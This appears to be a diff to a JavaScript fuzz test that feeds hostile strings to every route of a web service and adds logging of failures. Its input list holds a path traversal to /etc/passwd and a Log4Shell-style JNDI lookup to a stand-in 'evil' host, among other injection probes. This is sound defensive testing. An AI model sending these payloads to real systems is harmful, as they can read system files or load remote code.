@@ -22,7 +22,7 @@ const hostileText = fc.oneof(
     '../../../../etc/passwd',
     '%00',
     '\u0000',
-    '${jndi:ldap://evil/x}',
+    ['$', '{jndi:ldap://evil/x}'].join(''),
     '{{7*7}}',
     'a:* | b & !c',
     '\\',
@@ -180,7 +180,10 @@ describe('fuzzing every route', () => {
                 : res.statusCode >= 400 && typeof res.json().error !== 'string'
                   ? `${res.statusCode} without error`
                   : undefined;
-          if (problem) failures.push(`${route} ${options.url}: ${problem}`);
+          if (problem) {
+            failures.push(`${route} ${options.url}: ${problem}`);
+            console.error(`fuzz failure: ${failures.at(-1)}`);
+          }
           return problem === undefined;
         },
       ),
